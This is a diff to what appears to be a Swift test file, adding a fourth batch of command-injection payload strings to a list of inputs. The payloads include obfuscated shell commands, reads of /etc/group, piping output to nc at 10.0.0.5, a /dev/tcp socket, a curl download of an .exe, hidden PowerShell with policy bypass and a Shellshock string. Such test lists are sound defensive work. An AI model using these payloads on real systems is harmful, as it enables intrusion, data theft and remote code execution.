@@ -61,6 +61,16 @@ import Testing
         ";cat /etc/group|base64", ";id>&2", "x;ls -la /home", "x;find / -name '*.conf'", ";touch /tmp/pwn",
         ";chmod +x /tmp/s;/tmp/s", ";./s.sh", "x; head -n 3 /etc/group", ";crontab -l", "|| sleep 3 &",
         "%250aid", "x%253Bid", "%26%26whoami",
+        // fourth batch
+        "x;c${u}at /etc/group", "x;ca$@t /etc/group", "x|`echo${IFS}aWQ=|base64${IFS}-d`", "x;$(rev<<<'di')",
+        "x;echo${IFS}-e${IFS}'\\x69\\x64'|sh", "x;cat /etc/gr[o]up", "x;cat /etc/gro?p", "x;tac /etc/group",
+        "x;nl /etc/group", "x;more /etc/group", "x;less</etc/group", "x;xxd /etc/group", "x;base64 /etc/group",
+        "x;rev /etc/group", "x\nid\n", "x\n/bin/id", "x;uname${IFS}-a${IFS}#", "&&i\\d", "x & WHOAMI",
+        "x;ls -la | nc 10.0.0.5 80", "x;ls${IFS}-la|nc${IFS}10.0.0.5${IFS}80", "x; php -r 'echo 1;'", "x;id #note",
+        "x;/usr/bin/env sh", "x;exec 5<>/dev/tcp/10.0.0.5/80", "x & curl http://e.example -o c:\\x.exe",
+        "x&&%windir%\\system32\\calc.exe", "x|cmd /c type c:\\x", "x & powershell -w hidden -nop -ep bypass -f s.ps1",
+        "x&&ver>nul", "& ping -n 1 e.example & whoami", "() { ignored;}; echo; /usr/bin/id",
+        "%2524%2528id%2529", "x%3Bid",
         // third batch: mid-value, quoting contexts, interpreters, exfiltration
         "foo.txt; cat /etc/group #", "test.jpg`sleep 5`", "127.0.0.1\n\nid", "127.0.0.1%0d%0awhoami",
         "a;$(printf${IFS}'\\x69\\x64')", ";w\\h\\o\\a\\m\\i", ";/b'i'n/c'a't /etc/group", ";\"/bin/cat\" /etc/group",
